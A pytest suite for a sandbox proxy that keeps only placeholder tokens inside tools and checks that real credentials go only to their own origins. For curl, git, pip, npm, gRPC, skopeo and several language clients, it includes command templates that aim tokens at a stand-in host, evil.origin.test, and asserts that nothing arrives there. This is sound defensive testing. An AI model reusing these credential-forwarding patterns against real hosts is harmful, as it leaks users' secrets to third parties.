# SPDX-License-Identifier: MIT
"""Tools that hold placeholders, against origins that take the value alone: each works where its credential belongs, takes nothing
elsewhere, and while it works neither memory nor files of its sandbox have the value."""
import base64
import contextlib
import pathlib
import shutil

import pytest

from lib import base
from lib.proxies import credentials as secret_file
from lib.token_origins import VALUES, Net, image, policy

@pytest.fixture(scope="module")
def net():
    with contextlib.ExitStack() as stack:
        names = {name: stack.enter_context(secret_file(value.encode())) for name, value in VALUES.items()}
        yield Net(stack, policy(names))


def need(*programs):
    for program in programs:
        if not shutil.which(program):
            pytest.skip(f"{program} is not installed")


def good(net, script, served=None):
    before, looks, found = len(net.served), net.looks, set(net.found)
    code, out, err = net.tool(script)
    assert code == 0, (out, err)
    assert net.looks > looks and net.found == found, net.found - found
    if served:
        assert served in [s[0] for s in net.served[before:]], net.served[before:]
    return out


def nowhere_else(net, script, token):
    """The same tool, sent with the placeholder to a host it is not for: nothing arrives there."""
    before = len(net.evil)
    code, out, err = net.tool(script, token)
    got = b"".join(net.evil[before:])
    assert code != 0 or "credential_elsewhere" in out + err, (out, err)
    placeholder = net.tool(f'printf %s "${token}_TOKEN"')[1].encode()
    assert len(placeholder) == 43
    for word in (placeholder, base64.b64encode(b"agent:" + placeholder), VALUES[token.lower()].encode()):
        assert word not in got, got
    refused = [e for e in net.events() if e.get("reason") == "credential_elsewhere" and "evil.origin.test" in e["url"]]
    assert refused, (out, err)


def test_control_the_look_finds_what_is_there(net):
    word = VALUES["api"]
    net.tool(f"X={word[:9]}''{word[9:]} sleep 1.5; echo {word[:9]}''{word[9:]} > f; sleep 1.5")
    assert {"memory"} < {where for where, _ in net.found}, net.found  # and a file
    net.found.clear()


def test_control_origins_do_not_take_placeholders(net):
    got = net.bare("curl", "-sSk", "-m", "30", "-o", "/dev/null", "-w", "%{http_code}", "--connect-to", f"::{net.names['api.origin.test'][0]}:",
                   "-H", "Authorization: Bearer np_" + "a" * 40, "https://api.origin.test/")
    assert got == b"401"
    got = net.bare("curl", "-sSk", "-m", "30", "-o", "/dev/null", "-w", "%{http_code}", "--connect-to", f"::{net.names['evil.origin.test'][0]}:",
                   "-H", "Authorization: Bearer np_" + "a" * 40, "https://evil.origin.test/")
    assert got == b"401" and b"np_" + b"a" * 40 in b"".join(net.evil)


PYTHON_GET = """
import os, sys, {module}
host = os.environ.get("HOST", "api.origin.test")
{client}
r = client.post("https://" + host + "/v1/x", headers={{"Authorization": "Bearer " + os.environ["API_TOKEN"]}}, json={{"a": 1}})
print(r.status_code, r.text)
sys.exit(r.status_code != 200)
"""
STREAM = """
import json, os, urllib.request
class Client:
    def __init__(self, base_url, api_key):
        self.base_url, self.api_key = base_url, api_key
    def stream(self, messages):
        r = urllib.request.Request(self.base_url + "/stream", json.dumps({"messages": messages, "stream": True}).encode(),
                                   {"Authorization": "Bearer " + self.api_key, "Content-Type": "application/json"})
        for line in urllib.request.urlopen(r, timeout=60):
            if line.startswith(b"data: "):
                yield json.loads(line[6:])
client = Client("https://" + os.environ.get("HOST", "api.origin.test") + "/v1", os.environ["API_TOKEN"])
print(sum(d["n"] for d in client.stream([{"role": "user", "content": "hello"}])))
"""
NODE = """
const host = process.env.HOST || "api.origin.test"
const r = await fetch(`https://${host}/v1/x`, {method: "POST", body: "a=1", headers: {authorization: "Bearer " + process.env.API_TOKEN}})
console.log(r.status, await r.text())
process.exit(r.status == 200 ? 0 : 1)
"""
JAVA = """
import java.net.URI;
import java.net.http.*;
public class Ask {
    public static void main(String[] a) throws Exception {
        String host = System.getenv().getOrDefault("HOST", "api.origin.test");
        var q = HttpRequest.newBuilder(URI.create("https://" + host + "/v1/x")).header("Authorization", "Bearer " + System.getenv("API_TOKEN"))
            .POST(HttpRequest.BodyPublishers.ofString("a=1")).build();
        var r = HttpClient.newHttpClient().send(q, HttpResponse.BodyHandlers.ofString());
        System.out.println(r.statusCode() + " " + r.body());
        System.exit(r.statusCode() == 200 ? 0 : 1);
    }
}
"""
GO = """
package main
import ("fmt"; "io"; "net/http"; "os"; "strings")
func main() {
	host := os.Getenv("HOST")
	if host == "" { host = "api.origin.test" }
	r, err := http.NewRequest("POST", "https://" + host + "/v1/x", strings.NewReader("a=1"))
	if err != nil { panic(err) }
	r.Header.Set("Authorization", "Bearer " + os.Getenv("API_TOKEN"))
	got, err := http.DefaultClient.Do(r)
	if err != nil { panic(err) }
	text, _ := io.ReadAll(got.Body)
	fmt.Println(got.StatusCode, string(text))
	if got.StatusCode != 200 { os.Exit(1) }
}
"""
PROGRAMS = {
    "requests": (base.PYTHON, "a.py", PYTHON_GET.format(module="requests", client="client = requests")),
    "httpx": (base.PYTHON, "a.py", PYTHON_GET.format(module="httpx", client="client = httpx.Client(http2=True, timeout=60)")),
    "streaming-sdk": (base.PYTHON, "a.py", STREAM),
    "node": ("node", "a.mjs", NODE),
    "java": ("java -Xmx128m -XX:+UseSerialGC", "Ask.java", JAVA),
}
SHELLS = {
    "curl-bearer": 'curl -sSf -H "Authorization: Bearer $API_TOKEN" https://$HOST/v1/x',
    "curl-user": 'curl -sSf -u "agent:$API_TOKEN" -d a=1 https://$HOST/v1/x',
    "curl-header": 'curl -sSf -H "X-Api-Key: $API_TOKEN" -T /etc/hostname https://$HOST/v1/x',
}


@pytest.mark.parametrize("name", SHELLS)
def test_curl(net, name):
    good(net, "HOST=api.origin.test; " + SHELLS[name], "api")
    nowhere_else(net, SHELLS[name], "API")


def test_netrc(net):
    good(net, 'curl -sSf --netrc-file "$NETRC" https://api.origin.test/v1/x', "api")
    good(net, base.PYTHON + " -c 'import requests; r = requests.get(\"https://api.origin.test/v1/x\"); r.raise_for_status()'", "api")


@pytest.mark.parametrize("name", PROGRAMS)
def test_programs(net, name):
    program, file, text = PROGRAMS[name]
    need(program.split()[0])
    script = f"cat > {file} <<'END'\n{text}\nEND\n{program} {file}"
    good(net, script, "api")
    nowhere_else(net, "export HOST; " + script, "API")


def test_go(net):
    need("go")
    (net.dir / "ask.go").write_text(GO)
    base.sh("go", "build", "-o", str(net.dir / "ask"), str(net.dir / "ask.go"),
            env=base.env(HOME=str(net.dir), GOCACHE=str(net.dir / "cache"), GOFLAGS="-mod=mod", GO111MODULE="off", CGO_ENABLED="0"))
    good(net, f"{net.dir}/ask", "api")
    nowhere_else(net, f"export HOST; {net.dir}/ask", "API")


def test_git_clones_and_pushes(net):
    seed = net.dir / "seed"
    ident = "-c user.name=t -c user.email=t@example.org"
    base.sh("sh", "-c", f"git init -q -b main {seed} && cd {seed} && echo words > README && git add . && git {ident} commit -qm one && "
            f"git push -q {net.repos}/repo.git main")
    good(net, f"git clone -q https://git.origin.test/repo.git r && cd r && cat README && echo more > new && git add . && git {ident} "
         "commit -qm two && git push -q origin HEAD:refs/heads/pushed", "git")
    assert "two" in base.sh("git", "-C", str(net.repos / "repo.git"), "-c", "safe.directory=*", "log", "--oneline", "pushed").stdout
    assert ("git", "POST", "/repo.git/git-receive-pack") in net.served
    nowhere_else(net, 'GIT_TERMINAL_PROMPT=0 git clone -q "https://agent:$P@$HOST/repo.git" r', "GIT")


def test_pip_installs_from_a_private_index(net):
    pip = base.PYTHON + " -m pip --no-cache-dir --disable-pip-version-check install --no-deps --target t "
    out = good(net, pip + f"np-private >&2 && PYTHONPATH=t {base.PYTHON} -c 'import np_private; print(np_private.WORD)'", "pypi")
    assert out.strip() == "private"
    nowhere_else(net, pip + '--retries 0 --index-url "https://agent:$P@$HOST/simple/" np-private', "PYPI")


def test_npm_installs_and_publishes(net):
    need("npm")
    npm = "npm --no-audit --no-fund --no-update-notifier --cache ./cache --fetch-retries=0 "
    out = good(net, npm + "--registry https://npm.origin.test/ install np-private >&2 && cat node_modules/np-private/index.js", "npm")
    assert "module.exports" in out
    pack = "mkdir p && cd p && echo '{\"name\":\"np-mine\",\"version\":\"2.0.0\"}' > package.json && "
    good(net, pack + npm + "--registry https://npm.origin.test/ publish", "npm")
    assert net.published == "np-mine"
    nowhere_else(net, npm + '--registry "https://$HOST/" "--//$HOST/:_authToken=$P" install np-private', "NPM")


GRPC_CLIENT = """
import grpc, os
host = os.environ.get("HOST", "grpc.origin.test")
channel = grpc.secure_channel(host + ":443", grpc.ssl_channel_credentials())
say = {kind}
token = (("authorization", "Bearer " + os.environ["GRPC_TOKEN"]),)
print({call})
"""
CALLS = {
    "unary": ('channel.unary_unary("/np.Echo/Say")', 'say(b"hello", metadata=token, timeout=60)'),
    "streams": ('channel.stream_stream("/np.Echo/All")', 'list(say(iter([b"a", b"b", b"c"]), metadata=token, timeout=60))'),
}


@pytest.fixture(scope="module")
def grpc_server(net):
    grpc = pytest.importorskip("grpc")
    from concurrent import futures

    def check(context):
        if dict(context.invocation_metadata()).get("authorization") != "Bearer " + VALUES["grpc"]:
            context.abort(grpc.StatusCode.UNAUTHENTICATED, "no")
        net.look()
        net.served.append(("grpc", "POST", ""))

    def say(request, context):
        check(context)
        return request.upper()

    def every(requests, context):
        check(context)
        for r in requests:
            yield r.upper()

    class Handler(grpc.GenericRpcHandler):
        def service(self, details):
            kinds = {"/np.Echo/Say": grpc.unary_unary_rpc_method_handler(say), "/np.Echo/All": grpc.stream_stream_rpc_method_handler(every)}
            return kinds.get(details.method)

    cert, key = (pathlib.Path(p).read_bytes() for p in net.origins.authority.leaf("grpc.origin.test"))
    server = grpc.server(futures.ThreadPoolExecutor(4), handlers=[Handler()])
    addr = net.host("grpc.origin.test")
    credentials = grpc.ssl_server_credentials([(key, cert)])
    assert base.setns_call(net.world.far, lambda: server.add_secure_port(f"{addr}:443", credentials)) == 443
    server.start()
    yield net
    server.stop(None).wait()


@pytest.mark.parametrize("kind", CALLS)
def test_grpc(grpc_server, kind):
    how, call = CALLS[kind]
    script = f"cat > a.py <<'END'\n{GRPC_CLIENT.format(kind=how, call=call)}\nEND\n{base.PYTHON} a.py"
    out = good(grpc_server, script, "grpc")
    assert "HELLO" in out or "[b'A', b'B', b'C']" in out
    nowhere_else(grpc_server, "export HOST; " + script, "GRPC")


@pytest.fixture(scope="module")
def registry(net):
    """Debian's docker-registry, with a password file of its own."""
    need("docker-registry", "skopeo")
    import crypt
    addr = net.host("registry.origin.test")
    cert, key = net.origins.authority.leaf("registry.origin.test")
    (net.dir / "htpasswd").write_text("agent:" + crypt.crypt(VALUES["registry"], crypt.mksalt(crypt.METHOD_BLOWFISH)).replace("$2b$", "$2y$") + "\n")
    (net.dir / "registry.yml").write_text(f"""version: 0.1
storage: {{filesystem: {{rootdirectory: {net.dir}/registry}}}}
http: {{addr: "{addr}:443", tls: {{certificate: {cert}, key: {key}}}}}
auth: {{htpasswd: {{realm: x, path: {net.dir}/htpasswd}}}}
""")
    (net.dir / "image.tar").write_bytes(image())
    log = open(net.dir / "registry.log", "w")
    p = base.popen(["ip", "netns", "exec", net.world.far, "docker-registry", "serve", str(net.dir / "registry.yml")], stdout=log, stderr=log)
    try:
        status = lambda: net.bare("curl", "-sSk", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", "--connect-to", f"::{addr}:",
                                  "https://registry.origin.test/v2/")
        assert base.eventually(lambda: status() == b"401", 60), (net.dir / "registry.log").read_text()
        yield net
    finally:
        base.reap(p)
        log.close()


def test_skopeo_pushes_and_pulls(registry):
    net = registry
    copy = "skopeo --insecure-policy copy -q "
    good(net, copy + f"docker-archive:{net.dir}/image.tar docker://registry.origin.test/np/app:1")
    out = good(net, "skopeo inspect --config docker://registry.origin.test/np/app:1 && " + copy +
               "docker://registry.origin.test/np/app:1 dir:out && ls out")
    assert '"architecture"' in out.replace(" ", "") and "manifest.json" in out
    assert (net.dir / "registry/docker/registry/v2/repositories/np/app/_manifests/tags/1").is_dir()
    nowhere_else(net, copy + f'--dest-creds "agent:$P" docker-archive:{net.dir}/image.tar docker://$HOST/np/app:1', "REGISTRY")


def test_skopeo_logs_in(registry):
    out = good(registry, 'skopeo login --authfile ./auth.json -u agent -p "$REGISTRY_TOKEN" registry.origin.test && skopeo inspect --raw '
               "--authfile ./auth.json docker://registry.origin.test/np/app:1")
    assert "Login Succeeded" in out and "schemaVersion" in out
    code, out, err = registry.tool("skopeo login --authfile ./auth.json -u agent -p some-other-password registry.origin.test")
    assert code != 0, out
